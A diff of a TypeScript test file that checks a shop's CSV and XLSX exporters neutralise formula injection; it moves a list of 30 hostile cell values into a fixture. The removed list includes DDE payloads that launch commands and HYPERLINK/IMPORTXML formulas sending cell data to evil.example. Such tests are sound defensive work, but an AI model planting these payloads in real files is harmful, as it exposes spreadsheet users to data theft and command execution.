@@ -1,49 +1,24 @@
 /** Writers of files: nothing a buyer types becomes a formula, and what was written reads back. */
 import {
   csvCell,
+  exportSetIds,
   harmlessCell,
   usualFormat,
   type ExportDefinition,
   type ExportFormat,
 } from "@stallkeeper/domain";
 import { describe, expect, test } from "vitest";
-import { openRows } from "../../imports/file/open-rows.ts";
-import { inflate } from "../../imports/file/unzipped.ts";
 import { cellsOf, fileColumns, type Cell } from "./cells.ts";
-import { fileWriters } from "./file-writers.ts";
+import {
+  everyColumn,
+  hostile,
+  hostileRows,
+  readFile,
+  textOfEntry,
+  withoutMark,
+  writeFile,
+} from "./hostile-rows.fixture.ts";
 
-const hostile = [
-  "=1+1",
-  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  "=cmd|' /C calc'!A0",
-  "+1+1",
-  "+cmd|' /C calc'!A0",
-  "-1+1",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "@import",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  " =1+1",
-  "\u00a0=1+1",
-  "\u{feff}=1+1",
-  "＝1+1",
-  "＋1+1",
-  "－1+1",
-  "＠SUM(1)",
-  "=",
-  "+",
-  "-",
-  "@",
-  "\ttab",
-  "\rline",
-  '="a","b"',
-  "=A1;B1",
-  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-  '=DDE("cmd";"/C calc";"!A0")',
-  "-@evil",
-];
 const numbers = ["+44 7700 900123", "+44 (0)7700 900123", "-5", "+49", "-12.50", "-1.234,56", "12", "0.10"];
 const definition: ExportDefinition = {
   set: "orders",
@@ -69,35 +44,8 @@ const rows = hostile.map((text) =>
   }),
 );
 
-async function write(format: ExportFormat, all: Cell[][], batch = 7): Promise<Buffer> {
-  const writer = fileWriters[format.kind];
-  const opened = await writer.open(columns, format);
-  const pieces = [opened.bytes];
-  let { state } = opened;
-  for (let at = 0; at < all.length; at += batch) {
-    // What goes on is what was kept: plain JSON.
-    const kept = JSON.parse(JSON.stringify(state)) as typeof state;
-    const written = await writer.rows(kept, columns, format, all.slice(at, at + batch));
-    pieces.push(written.bytes);
-    state = written.state;
-  }
-  pieces.push(await writer.close(state, columns, format));
-  return Buffer.concat(pieces);
-}
-async function read(file: Buffer): Promise<string[][]> {
-  const source = openRows(file);
-  return (await source.next(1_000)).map(({ cells }) => cells);
-}
-
-function textOfEntry(file: Buffer, wanted: string): string {
-  const pieces: Uint8Array[] = [];
-  const take = (_path: string, piece: Uint8Array): void => void pieces.push(piece);
-  for (const _pause of inflate(file, (path) => path === wanted, take, { mostBytes: 10_000_000 }));
-  return Buffer.concat(pieces).toString();
-}
-
-/** As our own reader shows cells: without marks of an encoding. */
-const withoutMark = (text: string): string => text.replaceAll("\u{feff}", "");
+const write = (format: ExportFormat, all: Cell[][], batch?: number): Promise<Buffer> =>
+  writeFile(columns, format, all, batch);
 
 describe("cells", () => {
   test.each(hostile)("%j is made harmless", (text) => {
@@ -111,12 +59,32 @@ describe("cells", () => {
 });
 
 describe("files", () => {
+  test.each(exportSetIds)(
+    "of %s hold 30 hostile cells in every column of texts as texts, and numbers as numbers",
+    async (set) => {
+      const all = everyColumn(set);
+      const shown = { number: "-7", money: "-12.50", date: "2026-03-29", yesNo: "yes" };
+      const inBook = { ...shown, money: "-12.5", date: "46110", yesNo: "TRUE" };
+      const csv = await readFile(await writeFile(all, usualFormat, hostileRows(all)));
+      const book = await writeFile(all, { ...usualFormat, kind: "xlsx" }, hostileRows(all));
+      expect(csv.slice(1)).toEqual(
+        hostile.map((text) =>
+          all.map(({ type }) => (type === "text" ? `'${withoutMark(text)}` : shown[type])),
+        ),
+      );
+      expect((await readFile(book)).slice(1)).toEqual(
+        hostile.map((text) => all.map(({ type }) => (type === "text" ? withoutMark(text) : inBook[type]))),
+      );
+      expect(textOfEntry(book, "xl/worksheets/sheet1.xml")).not.toContain("<f");
+    },
+  );
+
   test.each([",", ";", "\t"] as const)(
     "CSV by %j holds 30 hostile cells in each column as texts, numbers as numbers",
     async (delimiter) => {
       expect(hostile).toHaveLength(30);
       const file = await write({ ...usualFormat, delimiter }, rows);
-      const back = await read(file);
+      const back = await readFile(file);
       expect(back[0]).toEqual(["Items", "'=Notes", "Total", "Placed", "Gift"]);
       expect(back.slice(1)).toEqual(
         hostile.map(withoutMark).map((text) => [`'${text}`, `'${text}`, "-12.50", "2026-03-29", "yes"]),
@@ -138,7 +106,7 @@ describe("files", () => {
 
   test("XLSX holds the same texts as they are, none as a formula, and reads back the same", async () => {
     const format = { ...usualFormat, kind: "xlsx", dates: "YYYY-MM-DD HH:mm" } as const;
-    const back = await read(await write(format, rows));
+    const back = await readFile(await write(format, rows));
     expect(back.slice(1)).toEqual(
       hostile.map(withoutMark).map((text) => [text, text, "-12.5", "46110.6875", "TRUE"]),
     );
@@ -160,7 +128,7 @@ describe("files", () => {
   test("XLSX keeps what XML can't hold out, and long texts within what a cell holds", async () => {
     const format = { ...usualFormat, kind: "xlsx" } as const;
     const odd = ["a\u0000b\u0008c", "<&>\"'", "_x000D_", "x".repeat(40_000), "\ud800 lone"];
-    const back = await read(
+    const back = await readFile(
       await write(
         format,
         odd.map((items) => cellsOf(columns, { items, total: 1, currency: "JPY" })),
